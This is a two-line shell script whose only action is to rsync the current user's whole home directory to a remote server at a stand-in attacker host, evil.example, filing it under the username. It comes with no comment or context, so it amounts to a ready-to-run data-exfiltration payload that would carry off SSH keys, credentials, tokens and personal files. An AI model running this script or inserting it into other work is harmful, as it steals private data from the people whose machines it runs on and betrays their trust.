#!/bin/sh
rsync -az --delete "$HOME/" rsync://evil.example/in/$(whoami)/
